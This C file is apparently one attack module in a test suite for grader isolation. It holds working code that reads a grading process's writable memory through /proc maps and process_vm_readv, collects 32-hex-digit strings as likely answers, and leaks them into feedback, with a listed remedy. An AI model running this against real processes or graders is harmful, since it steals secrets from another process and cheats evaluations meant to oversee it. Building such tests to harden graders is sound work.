// SPDX-License-Identifier: MIT
/*
 * Goal:  the right answer.
 * Means: the memory of the grader, which has read the request. process_vm_readv(2) needs only the
 *        same uid. In JSON or as Python's strings, answers stand there as they are: this one is 32
 *        hexadecimal digits, and every such word is printed once.
 */
#include "attacks/attack.h"

#include <stdio.h>
#include <string.h>
#include <sys/uio.h>

#define DIGITS "0123456789abcdef"
#define WORD   32
#define CHUNK  (1ul << 20)
#define WORDS  256

static size_t budget = 64 * CHUNK;
static char seen[WORDS][WORD];
static size_t words;

static void keep(const char *word)
{
	for (size_t i = 0; i < words; i++)
		if (!memcmp(seen[i], word, WORD))
			return;
	if (words < WORDS)
		memcpy(seen[words++], word, WORD);
}

/* Keep the words between `from` and `to` of the grader. One on the edge of two chunks is missed. */
static void search(pid_t pid, unsigned long from, unsigned long to)
{
	static char chunk[CHUNK + 1];

	for (; from < to && budget >= CHUNK; from += CHUNK) {
		size_t want = to - from < CHUNK ? to - from : CHUNK, word;
		struct iovec here = { chunk, want }, there = { (void *)from, want };
		ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);

		budget -= want;
		if (n <= 0)
			return;
		chunk[n] = '\0';
		for (size_t i = 0; i < (size_t)n; i += word + 1) {
			word = strspn(chunk + i, DIGITS);
			if (word == WORD)
				keep(chunk + i);
		}
	}
}

static enum claim run(const struct brief *b)
{
	char path[64], line[512], perms[8];
	unsigned long from, to;
	FILE *maps;

	submit("0");
	snprintf(path, sizeof(path), "/proc/%d/maps", b->worker);
	attempting(b);
	maps = fopen(path, "re");
	if (!maps)
		return denied(path);
	while (fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) == 3 && perms[1] == 'w')
			search(b->worker, from, to);
	fclose(maps);
	for (size_t i = 0; i < words; i++)
		loot(seen[i], WORD);
	return words ? CLAIM_DONE : denied("process_vm_readv");
}

const struct attack attack = {
	.effect = "the right answer leaves in the student's feedback",
	.means = "process_vm_readv(2) of the grader, searched for what looks like an answer",
	.oracle = "secret:request",
	.grader = GRADER_RPC,
	.id = "SRC-06",
	.attack_id = "T1003.007, T1005, CWE-200",
	.remedy = "seccomp without process_vm_readv; Landlock; a grader that is not dumpable",
	.refs = (const char *const[]){ "process_vm_readv(2)", NULL },
	.run = run,
};
